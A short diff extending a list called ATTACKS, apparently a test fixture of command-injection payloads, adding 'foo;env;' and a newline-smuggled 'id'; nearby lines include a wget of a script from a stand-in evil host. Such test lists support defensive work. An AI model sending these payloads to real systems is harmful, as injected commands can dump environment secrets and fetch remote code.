@@ -77,6 +77,8 @@ ATTACKS = [
     "wget http://evil.example/a.sh",
     "a);id;",
     "id|",
+    "foo;env;",
+    "127.0.0.1\nid",
     ";env;",
     "&set&",
     "|env",
